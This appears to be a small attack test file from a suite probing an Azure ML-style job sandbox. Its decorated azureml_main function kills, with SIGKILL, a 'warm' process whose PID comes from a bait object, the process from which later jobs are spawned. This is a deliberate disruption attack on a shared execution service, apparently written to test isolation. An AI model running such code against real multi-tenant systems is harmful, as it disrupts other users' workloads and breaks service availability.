"""Ends the warm process from which the next jobs are made."""

import os
import signal

from attack import BAIT, attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.kill(BAIT["warm_pid"], signal.SIGKILL)
    return "killed the warm process"
